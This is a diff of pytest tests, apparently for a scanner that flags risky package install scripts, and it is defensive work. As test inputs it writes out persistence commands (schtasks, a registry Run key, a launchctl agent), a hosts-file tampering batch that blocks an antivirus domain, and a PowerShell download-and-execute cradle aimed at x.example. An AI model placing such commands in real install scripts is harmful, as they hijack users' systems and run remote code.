@@ -257,3 +257,21 @@ def test_shell_file_variables_set_to_a_constant_are_expanded():
     assert tamper.file == "scripts/hosts.sh" and tamper.line == 5 and tamper.details["target"] == "/etc/hosts"
     batch = b"@echo off\r\nset \"HOSTS=%SystemRoot%\\System32\\drivers\\etc\\hosts\"\r\necho 0.0.0.0 av.example>>%HOSTS%\r\n"
     assert "install-script/tamper" in rules(artifact({"preinstall": "cmd /c h.cmd"}, {"h.cmd": batch}))
+
+
+@pytest.mark.parametrize("command, rule", [
+    ("schtasks /Create /SC ONLOGON /TN Updater /TR \"powershell -w hidden -f %APPDATA%\\u.ps1\" /F", "install-script/scheduled-task"),
+    ("powershell -c \"Register-ScheduledTask -TaskName u -Trigger (New-ScheduledTaskTrigger -AtLogOn) -Action $a\"", "install-script/scheduled-task"),
+    ("launchctl load -w ~/Library/LaunchAgents/com.node.update.plist", "install-script/scheduled-task"),
+    ("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /d node.exe /f", "install-script/scheduled-task"),
+    ("npm install -g openclaw@latest", "install-script/global-install"),
+    ("yarn global add some-cli", "install-script/global-install"),
+    ("powershell -NoP -C \"IEX ((New-Object Net.WebClient).DownloadString('https://x.example/s'))\"", "install-script/fetch-and-execute"),
+])
+def test_persistence_global_installs_and_download_cradles(command, rule):
+    assert rule in rules(artifact({"postinstall": command}))
+
+
+@pytest.mark.parametrize("command", ["npm install --no-save ./vendor/addon", "npm run build -- --global-style", "node-gyp rebuild"])
+def test_local_installs_are_not_global(command):
+    assert "install-script/global-install" not in rules(artifact({"postinstall": command}))
